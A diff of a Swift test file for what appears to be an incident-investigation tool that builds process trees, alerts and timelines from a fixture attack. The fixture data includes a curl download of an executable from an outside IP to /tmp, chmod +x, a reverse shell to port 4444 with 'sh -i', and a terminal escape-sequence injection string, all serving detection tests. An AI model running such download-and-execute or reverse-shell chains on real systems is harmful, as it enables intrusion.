@@ -20,9 +20,9 @@ import Testing
         #expect(text.contains("Root: bash[1201] entity E-bash (the incident's root process)"))
         #expect(text.contains("Ancestry: systemd[1] › sshd[800] › bash[1201]"))
         #expect(lines.contains("bash[1201] -bash"))
-        #expect(lines.contains { $0.hasPrefix("├── curl[1202] curl -s -o /tmp/x http://203.0.113.7/x  (exit 0)  ◀ ALERT medium download_to_tmp") })
+        #expect(lines.contains { $0.hasPrefix("├── curl[1202] curl -s -o /tmp/x http://203.0.113.7/x  (exit 0)  ◀ ALERT medium Executable downloaded to /tmp") })
         #expect(lines.contains("├── chmod[1203] chmod +x /tmp/x  (exit 0)"))
-        #expect(lines.contains { $0.hasPrefix("└── x[1204] /tmp/x -c \"127.0.0.1:4444\" -k 'a\\\\b'  ◀ ALERT high linux_reverse_shell") })
+        #expect(lines.contains { $0.hasPrefix("└── x[1204] /tmp/x -c \"127.0.0.1:4444\" -k 'a\\\\b'  ◀ ALERT high Reverse shell to a raw TCP port") })
         #expect(lines.contains("    └── sh[1205] sh -i"))
         #expect(text.contains("ALERTS (2)"))
         #expect(text.contains("TIMELINE (14 events)"))
@@ -49,6 +49,36 @@ import Testing
         let text = StoryTextRenderer.render(try StoryBuilder(store: store).build(.entity("E-evil")))
         #expect(!text.contains("\u{1b}"))
         #expect(text.contains("evil \\x1b]0;pwned\\x07\\nFAKE"))
+    }
+
+    @Test func processesThatExecAgainShowTheirChainAndTheirImageAtEachMoment() throws {
+        let store = try AttackFixture.build(at: dir.dbPath)
+        // /tmp/x execs sleep after its connects (the row now says sleep); sh writes /dev/null.
+        try store.write([
+            .event(EventRow(tsNs: 1, tsUnixNs: AttackFixture.t0 + 17 * AttackFixture.second, kind: "exec",
+                            action: "exec", pid: 1204, entityId: "E-x", executable: "/usr/bin/sleep",
+                            commandLine: "sleep 1", path: "/usr/bin/sleep")),
+            .process(ProcessRow(entityId: "E-x", pid: 1204, executable: "/usr/bin/sleep", commandLine: "sleep 1",
+                                seenUnixNs: AttackFixture.t0)),
+            .event(EventRow(tsNs: 2, tsUnixNs: AttackFixture.t0 + 18 * AttackFixture.second, kind: "file",
+                            action: "truncate", pid: 1205, entityId: "E-sh", path: "/dev/null")),
+        ])
+        let story = try StoryBuilder(store: store).build(.alert(AttackFixture.shellAlertUUID))
+        let x = try #require(story.tree.flattened.first { $0.entityId == "E-x" })
+        #expect(x.execs.map(\.name) == ["x", "sleep"])
+        #expect(x.execCount == 2)
+        #expect(story.processName("E-x") == "sleep")
+        #expect(story.processName("E-x", at: AttackFixture.t0 + 10 * AttackFixture.second) == "x")
+        let text = StoryTextRenderer.render(story)
+        #expect(text.contains("└── sleep[1204] sleep 1  (execs: x → sleep)  ◀ ALERT high"))
+        #expect(text.contains("on x[1204]"))  // the alert names the image that ran at alert time
+        #expect(text.split(separator: "\n").contains { $0.hasPrefix("    127.0.0.1:4444/tcp") && $0.contains("by x[1204]") })
+        #expect(!text.contains("/dev/null"))
+        #expect(!story.impact.files.contains { $0.path == "/dev/null" })
+        let dot = StoryDOTRenderer.render(story)
+        #expect(dot.contains("execs: x → sleep"))
+        let json = StoryJSONRenderer.render(story)
+        #expect(json.contains(#""exec_count":2"#))
     }
 
     @Test func truncatedTimelineIsAnnounced() throws {
